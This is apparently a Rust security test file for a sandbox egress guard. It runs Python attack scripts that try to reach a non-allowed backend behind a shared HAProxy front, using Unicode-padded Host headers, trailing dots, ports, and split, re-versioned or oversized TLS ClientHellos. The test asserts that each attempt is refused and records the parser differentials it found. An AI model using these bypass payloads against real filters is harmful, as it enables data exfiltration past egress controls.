//! A forty-fourth attack review, run as the process inside the sandbox (uid 65534,
//! arbitrary Python): each test performs one attack from a `sandbox run` sandbox against
//! the real agent, the real kernel, real DNS (dnsmasq) and a real front server on the
//! test namespace's `lo`, counts what reached the far side, and asserts the secure
//! outcome.
//!
//! Angle: the egress guard's promise that a request reaches only a name the policy
//! allows, attacked where the guard and the server read a name differently. The world:
//! 203.0.113.10 is a shared front, HAProxy 2.6 (Debian's), routing plain HTTP on port 80
//! by `Host` (`use_backend … if { hdr(host) -i NAME }`) and TLS on 443 by SNI
//! (`req_ssl_sni -i NAME`, `mode tcp`), as HAProxy documents both; a name that matches
//! no rule goes to the default backend, here `evil.test`'s (on a shared front the
//! default is some tenant's; never `allowed.test`'s for another name). The backends
//! record what reaches them ([`BACKENDS_PY`]).
//!
//! Found (fails against a7e4711):
//! - the guard trimmed header values with Rust's `str::trim`, which drops every Unicode
//!   white space (U+00A0, U+0085, U+1680, U+2000–U+200A, U+2028, U+2029, U+202F,
//!   U+205F, U+3000), while httparse passes their UTF-8 bytes as `obs-text` and a server
//!   trims only spaces and tabs (RFC 9110 §5.5). `Host: allowed.test\u{a0}` was judged as
//!   `allowed.test` and forwarded; the server read a name it does not serve and gave the
//!   request (path, headers: the exfiltration channel) to its default backend. nginx 1.22
//!   does the same with its default server (tried by hand: `ngx_http_validate_host`
//!   passes bytes above 0x7f). The guard now trims only SP and HTAB
//!   (`http::field_trim`), so such a `Host`, target, length or coding is no hostname,
//!   digits or `chunked` and is refused (`ambiguous_request`).
//! - the guard read a name with a trailing dot as the name without it, in SNI and `Host`.
//!   nginx's `server_name` drops the dot too, but a router that compares the name whole
//!   does not: HAProxy's ACLs, and nginx's own SNI routing (`ssl_preread` and a `map`
//!   over `$ssl_preread_server_name`, tried by hand) send `allowed.test.` to the
//!   default. RFC 6066 forbids the dot in SNI. Now refused (`not_tls_or_http`,
//!   `ambiguous_request`).
//! - the guard dropped the port after a `Host` name unread: `Host: allowed.test:80` (and
//!   `:8080` on a port-80 connection) went on, and HAProxy's `hdr(host) -i allowed.test`
//!   sent it to the default. A port now passes only as the connection's own port, and
//!   never as 80, which clients leave out (curl, Python, browsers); a port with a
//!   leading zero is refused (`http::port_fits`).
//! - the guard joined a ClientHello cut across TLS records and judged the name it found,
//!   and read no record version. A front that routes TLS by SNI without terminating it
//!   reads the first record alone: HAProxy's `req_ssl_sni` found no name in a hello
//!   for `allowed.test` cut after 10 or 100 bytes of its message, nor in one under
//!   record version 2.0, and sent each, and the raw connection behind it, to the default
//!   backend: a byte stream to `evil.test`'s server, whatever follows the hello. So did
//!   a hello of 15.5 KB in one record (HAProxy reads 15 KiB into its default buffer;
//!   14.5 KB went by its name). The first ClientHello must now be alone and whole in
//!   one record of version 0x0301 to 0x0303, at most 8 KiB (`tls::in_one_record`;
//!   `not_tls_or_http`). A hello whose own version field reads 0x0300 (inside a
//!   well-formed record) went to the default too; the guard read no version there and
//!   now reads a name only under 0x0301 to 0x0303. Tried by hand too: HAProxy
//!   routed a hello cut after the SNI extension, and record versions 3.0, 3.4, 3.153
//!   and 4.1, by their name.
//!
//! Each test prints its `figure:` line: on a7e4711 the Unicode padding reached the
//! default backend 7 of 7 times, the trailing dot and the ports 4 of 4, the cut, 2.0,
//! large and SSL 3.0 hellos 5 of 5; now 0, 0 and 0. Held (tried by hand against HAProxy):
//! a session id longer than 32 bytes, an odd cipher list, an SNI list led by another
//! name type, lying lengths: HAProxy sends them to its default, and the guard refuses
//! them (tls-parser's checks, one host name only).
//!
//! Held, tried by hand against HAProxy and nginx: upper case (both fold it).
//! Everything lives in the test's own network namespace, addresses on `lo`.

use std::{
    fs,
    net::TcpStream,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use hb_tests::{
    TestEnv,
    upstream::Dnsmasq,
    worlds::{RecordingPython, attack_as, names_on_lo, resolver_config, started_agent},
};
use serde_json::Value;

const DNS_PORT: u16 = 5400;
const SHARED: &str = "203.0.113.10";

/// The front's backends on 127.0.0.1: plain HTTP `allowed.test` on 9001 and `evil.test`
/// on 9002 (each request answered 200 with its backend's name, keep-alive); TLS sinks
/// for `allowed.test` on 9003 and `evil.test` on 9004 (they record the first bytes of a
/// connection, a ClientHello, and close). Log: one JSON line per arrival (`backend`,
/// `proto`, and for HTTP `host` as received in latin-1, `method`, `path`).
const BACKENDS_PY: &str = r#"
import http.server, json, socket, sys, threading
_, log = sys.argv[1:3]
lock = threading.Lock()
def record(rec):
    with lock:
        with open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, request, client_address): pass
def http_backend(name, port):
    class H(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        def log_message(self, *a): pass
        def any(self):
            record({"backend": name, "proto": "http", "host": self.headers.get("host"),
                    "method": self.command, "path": self.path})
            out = ("%s %s\n" % (name, self.path)).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out)
        do_GET = do_HEAD = do_OPTIONS = any
    s = S(("127.0.0.1", port), H)
    threading.Thread(target=s.serve_forever, daemon=True).start()
def tls_sink(name, port):
    l = socket.socket()
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("127.0.0.1", port))
    l.listen(64)
    def serve():
        while True:
            c, _ = l.accept()
            c.settimeout(2)
            try:
                got = c.recv(65536)
            except OSError:
                got = b""
            record({"backend": name, "proto": "tls", "bytes": len(got)})
            c.close()
    threading.Thread(target=serve, daemon=True).start()
http_backend("allowed.test", 9001)
http_backend("evil.test", 9002)
tls_sink("allowed.test", 9003)
tls_sink("evil.test", 9004)
print("ready", flush=True)
threading.Event().wait()
"#;

/// The shared front: HAProxy routing plain HTTP by `Host` and TLS by SNI, as its
/// documentation shows, the default backend `evil.test`'s.
const HAPROXY_CFG: &str = "
defaults
  timeout connect 2s
  timeout client 10s
  timeout server 10s
frontend web
  mode http
  bind 203.0.113.10:80
  use_backend allowed_http if { hdr(host) -i allowed.test }
  use_backend evil_http if { hdr(host) -i evil.test }
  default_backend evil_http
frontend tls
  mode tcp
  bind 203.0.113.10:443
  tcp-request inspect-delay 2s
  tcp-request content accept if { req_ssl_hello_type 1 }
  use_backend allowed_tls if { req_ssl_sni -i allowed.test }
  use_backend evil_tls if { req_ssl_sni -i evil.test }
  default_backend evil_tls
backend allowed_http
  mode http
  server s 127.0.0.1:9001
backend evil_http
  mode http
  server s 127.0.0.1:9002
backend allowed_tls
  mode tcp
  server s 127.0.0.1:9003
backend evil_tls
  mode tcp
  server s 127.0.0.1:9004
";

/// HAProxy in the foreground on [`HAPROXY_CFG`] (written in `dir`), killed on drop.
struct Front(Child);

impl Front {
    fn start(dir: &Path) -> Self {
        let cfg = dir.join("haproxy.cfg");
        fs::write(&cfg, HAPROXY_CFG).expect("haproxy.cfg");
        let child = Command::new("haproxy")
            .arg("-db")
            .arg("-f")
            .arg(&cfg)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("haproxy (cargo xtask setup installs it)");
        let front = Self(child);
        // HAProxy binds every listener before it serves any; port 80 is probed alone (a
        // probe of 443 would reach the TLS default backend as an empty connection).
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect((SHARED, 80)).is_err() {
            assert!(Instant::now() < deadline, "haproxy never listened");
            thread::sleep(Duration::from_millis(50));
        }
        front
    }
}

impl Drop for Front {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The world: namespace, dnsmasq, the backends, the front, agent. Policy `web` allows
/// only `allowed.test`, guarded on 80 and 443.
struct World {
    env: TestEnv,
    backends: RecordingPython,
    _front: Front,
    _dns: Dnsmasq,
    dir: PathBuf,
}

impl World {
    fn new(name: &str) -> Self {
        let dns = names_on_lo(
            &[SHARED, "192.0.2.53"],
            DNS_PORT,
            &[("allowed.test", &[SHARED]), ("evil.test", &[SHARED])],
            60,
        );
        let dir =
            std::env::temp_dir().join(format!("hb-review44-{name}-{}", hb_tests::random_suffix()));
        fs::create_dir_all(&dir).expect("test folder");
        let backends = RecordingPython::start::<&Path>(
            BACKENDS_PY,
            "127.0.0.1",
            &dir.join("backends.jsonl"),
            &[],
        );
        let front = Front::start(&dir);
        let config = format!(
            r#"
{resolver}
[[policy]]
name = "web"
allow_domains = ["allowed.test"]
guard = true
"#,
            resolver = resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"]),
        );
        Self {
            env: started_agent(name, &config),
            backends,
            _front: front,
            _dns: dns,
            dir,
        }
    }

    /// Runs a Python script (after [`PRELUDE`]) in a `web` sandbox as uid 65534, its DNS
    /// through hb's resolver; what it printed.
    fn attack(&self, script: &str) -> String {
        let out = attack_as(&self.env, "web", &format!("{PRELUDE}\n{script}"));
        println!("attack output:\n{out}");
        out
    }

    /// Every arrival, once the one at `path` came or 2 s passed.
    fn arrivals(&self, path: &str) -> Vec<Value> {
        self.backends.settle(|r| r["path"] == path)
    }
}

impl Drop for World {
    fn drop(&mut self) {
        if !thread::panicking() {
            let _ = fs::remove_dir_all(&self.dir);
        }
    }
}

/// Python every attack script starts with: resolves `allowed.test` through hb (which
/// validates the shared address for it); `exchange(data)` sends `data` on a fresh
/// connection to port 80, half-closes, and returns what came back; `get(path, host)`
/// is a GET with that `Host`; `status(out)` its first line.
const PRELUDE: &str = r#"
import socket, ssl
SHARED = socket.getaddrinfo("allowed.test", 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
assert SHARED == "203.0.113.10", SHARED
def exchange(data):
    s = socket.create_connection((SHARED, 80), timeout=5)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    out = b""
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
    except OSError:
        pass
    s.close()
    return out
def get(path, host):
    return b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n"
def status(out):
    return out.split(b"\r\n")[0].decode("latin-1") or "closed"
def hello(name):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((SHARED, 443), timeout=5)
    try:
        ctx.wrap_socket(s, server_hostname=name).close()
        return "handshake"
    except (OSError, ssl.SSLError) as e:
        return "ended"
"#;

/// The arrivals at a backend other than `allowed.test`'s.
fn elsewhere(records: &[Value]) -> Vec<&Value> {
    records
        .iter()
        .filter(|r| r["backend"] != "allowed.test")
        .collect()
}

/// `Host: allowed.test` padded with Unicode white space that Rust's `str::trim` drops and
/// a server keeps: the guard must not judge a name the server never reads.
#[test]
fn a_host_padded_with_unicode_white_space_never_reaches_another_backend() {
    let w = World::new("r44uniws");
    let out = w.attack(
        r#"
print("control", status(exchange(get(b"/control", b"allowed.test"))))
pads = {"nbsp": "\u00a0", "nel": "\u0085", "ideographic": "\u3000", "line-sep": "\u2028"}
for label, pad in pads.items():
    path = b"/after-" + label.encode()
    print("after-" + label, status(exchange(get(path, b"allowed.test" + pad.encode()))))
for label, pad in {"nbsp": "\u00a0", "ogham": "\u1680"}.items():
    path = b"/before-" + label.encode()
    print("before-" + label, status(exchange(get(path, pad.encode() + b"allowed.test"))))
# On a kept-alive connection, behind a GET that passes.
first = b"GET /keepalive-first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
got = exchange(first + get(b"/keepalive-second", "allowed.test\u00a0".encode()))
print("keepalive", got.count(b"HTTP/1.1 200"), "passed", got.count(b"HTTP/1.1 403"), "refused")
"#,
    );
    let records = w.arrivals("/keepalive-second");
    assert!(
        records
            .iter()
            .any(|r| r["path"] == "/control" && r["backend"] == "allowed.test"),
        "the control GET reached allowed.test: {records:?}\n{out}"
    );
    let elsewhere = elsewhere(&records);
    println!(
        "figure: padded requests that reached a backend other than allowed.test's: {} of 7",
        elsewhere.len()
    );
    assert!(
        elsewhere.is_empty(),
        "requests the guard judged as allowed.test reached another backend: {elsewhere:?}"
    );
    assert!(
        out.contains("keepalive 1 passed 1 refused"),
        "on a kept-alive connection the cover GET passes and the padded one is refused: {out}"
    );
    for label in [
        "after-nbsp",
        "after-nel",
        "after-ideographic",
        "after-line-sep",
        "before-nbsp",
        "before-ogham",
    ] {
        assert!(
            out.contains(&format!("{label} HTTP/1.1 403")),
            "{label} is answered by the guard's 403: {out}"
        );
    }
}

/// `allowed.test` spelled with a trailing dot (SNI and `Host`) or a port after it: the
/// guard read each as `allowed.test`, a front that compares the name whole as another.
#[test]
fn a_trailing_dot_or_a_port_never_takes_a_request_to_another_backend() {
    let w = World::new("r44spell");
    let out = w.attack(
        r#"
print("control-http", status(exchange(get(b"/control", b"allowed.test"))))
print("control-tls", hello("allowed.test"))
for label, host in {"dot": b"allowed.test.", "port80": b"allowed.test:80",
                    "port8080": b"allowed.test:8080"}.items():
    print(label, status(exchange(get(b"/" + label.encode(), host))))
print("sni-dot", hello("allowed.test."))
"#,
    );
    let records = w.arrivals("/port8080");
    let reached = |backend: &str, proto: &str| {
        records
            .iter()
            .filter(|r| r["backend"] == backend && r["proto"] == proto)
            .count()
    };
    assert_eq!(
        (
            reached("allowed.test", "http"),
            reached("allowed.test", "tls")
        ),
        (1, 1),
        "the control GET and ClientHello reached allowed.test: {records:?}\n{out}"
    );
    let elsewhere = elsewhere(&records);
    println!(
        "figure: requests and hellos spelled otherwise that reached a backend other than \
         allowed.test's: {} of 4",
        elsewhere.len()
    );
    assert!(
        elsewhere.is_empty(),
        "names the guard judged as allowed.test reached another backend: {elsewhere:?}"
    );
    for label in ["dot", "port80", "port8080"] {
        assert!(
            out.contains(&format!("{label} HTTP/1.1 403")),
            "{label} is answered by the guard's 403: {out}"
        );
    }
}

/// A ClientHello for `allowed.test` cut across two TLS records, under record version 2.0,
/// or larger than the front's buffer: the guard joined the pieces and judged
/// `allowed.test`, a front reading the first record alone into its buffer finds no name
/// and hands the connection to its default backend.
#[test]
fn a_client_hello_a_front_cannot_read_never_reaches_another_backend() {
    let w = World::new("r44records");
    let out = w.attack(
        r#"
import struct, time
inc, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
ctx = ssl.create_default_context()
client = ctx.wrap_bio(inc, outgoing, server_hostname="allowed.test")
try:
    client.do_handshake()
except ssl.SSLWantReadError:
    pass
first = outgoing.read()
assert first[0] == 22
message = first[5:]
def record(body, version=b"\x03\x01"):
    return b"\x16" + version + struct.pack("!H", len(body)) + body
def send(label, data):
    s = socket.create_connection((SHARED, 443), timeout=5)
    # Then anything, framed as the records the guard passes by their header.
    payload = b"data for whoever serves the default backend"
    s.sendall(data + b"\x17\x03\x03" + struct.pack("!H", len(payload)) + payload)
    # Held open past the front's inspect delay (2 s), as a client awaiting its answer.
    s.settimeout(3)
    try:
        got = s.recv(5)
        print(label, "answered" if got else "closed")
    except socket.timeout:
        print(label, "held")
    except OSError as e:
        print(label, "error", e.errno)
    s.close()
send("control", record(message))
send("cut-10", record(message[:10]) + record(message[10:]))
send("cut-100", record(message[:100]) + record(message[100:]))
send("version-2.0", record(message, b"\x02\x00"))
send("hello-version-3.0", record(message[:4] + b"\x03\x00" + message[6:]))
# One record, whole, but past the front's buffer: 15,000 bytes of an unknown extension.
body = message[4:]
at = 2 + 32
at += 1 + body[at]
at += 2 + struct.unpack("!H", body[at:at + 2])[0]
at += 1 + body[at]
extensions = body[at + 2:] + struct.pack("!HH", 0x4444, 15000) + bytes(15000)
body = body[:at] + struct.pack("!H", len(extensions)) + extensions
send("large", record(b"\x01" + struct.pack("!I", len(body))[1:] + body))
"#,
    );
    // The control's hello reaches allowed.test's sink; the others, if passed, reach a
    // sink after the front's 2 s delay, before the client gave up (3 s).
    let records = w.backends.records();
    assert_eq!(
        records
            .iter()
            .filter(|r| r["backend"] == "allowed.test" && r["proto"] == "tls")
            .count(),
        1,
        "the control hello reached allowed.test: {records:?}\n{out}"
    );
    let elsewhere = elsewhere(&records);
    println!(
        "figure: cut, re-versioned or large hellos that reached a backend other than allowed.test's: \
         {} of 5",
        elsewhere.len()
    );
    assert!(
        elsewhere.is_empty(),
        "hellos the guard judged as allowed.test reached another backend: {elsewhere:?}"
    );
    // Each was refused by the guard, not lost on the way: an event names allowed.test.
    let refusal = w
        .env
        .wait_event("not_tls_or_http naming allowed.test", |e| {
            e["hook"] == "guard" && e["reason"] == "not_tls_or_http" && e["name"] == "allowed.test"
        });
    assert_eq!(refusal["verdict"], "deny", "{refusal}");
}
